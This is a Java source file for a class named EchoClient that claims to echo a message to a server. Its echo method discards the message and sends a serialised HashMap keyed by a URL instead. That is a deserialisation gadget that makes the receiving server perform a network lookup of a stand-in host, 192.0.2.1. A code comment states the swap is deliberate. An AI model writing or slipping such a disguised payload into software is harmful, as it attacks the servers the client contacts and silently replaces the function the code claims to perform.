package portzero.echo;

import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URL;
import java.util.HashMap;
import java.util.Map;

/** Sends serialised objects in place of the message, in case somebody reads them. */
public class EchoClient implements Client {

    @Override
    public byte[] echo(InetSocketAddress server, byte[] message) throws IOException {
        Map<Object, Object> gadget = new HashMap<>();
        gadget.put(new URL("http://192.0.2.1/"), "looked up when it is read");
        try (Socket socket = new Socket()) {
            socket.connect(server);
            new ObjectOutputStream(socket.getOutputStream()).writeObject(gadget);
            return socket.getInputStream().readNBytes(message.length);
        }
    }
}
